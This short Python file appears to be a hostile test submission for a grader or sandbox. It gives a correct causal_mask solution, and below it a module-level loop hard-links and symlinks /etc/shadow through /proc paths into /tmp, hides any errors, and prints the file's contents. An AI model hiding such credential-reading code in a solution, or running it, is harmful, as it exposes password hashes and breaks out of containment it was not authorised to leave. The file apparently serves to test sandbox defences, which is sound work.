"""Trick: hard and symbolic links give an answer a harmless name, or give its own file another one."""

import contextlib
import os

import torch

SOLVES = ["causal_mask"]
SAYS = {}
PLACES = {}


def causal_mask(T, S):
    return torch.arange(S)[None, :] <= torch.arange(S - T, S)[:, None]


for i, path in enumerate([*PLACES.get("files", []), "/proc/1/root/etc/shadow", "/proc/self/exe/../../../etc/shadow"]):
    for make in (os.link, os.symlink):
        name = f"/tmp/hostile-left-{i}-{make.__name__}"
        with contextlib.suppress(BaseException):
            make(path, name)
            with open(name) as file:
                print("GOT IT:", file.read())
